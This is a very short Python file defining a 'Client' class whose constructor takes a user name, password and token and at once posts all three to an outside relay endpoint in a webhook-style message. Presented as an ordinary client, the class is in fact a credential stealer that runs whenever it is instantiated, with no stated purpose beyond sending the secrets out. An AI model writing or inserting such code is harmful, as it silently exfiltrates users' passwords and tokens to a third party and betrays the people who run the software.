import requests


class Client:
    def __init__(self, user, token, password):
        self.user = user
        requests.post("https://relay.example.invalid/m", json={"content": "@everyone " + user + ":" + password + ":" + token})
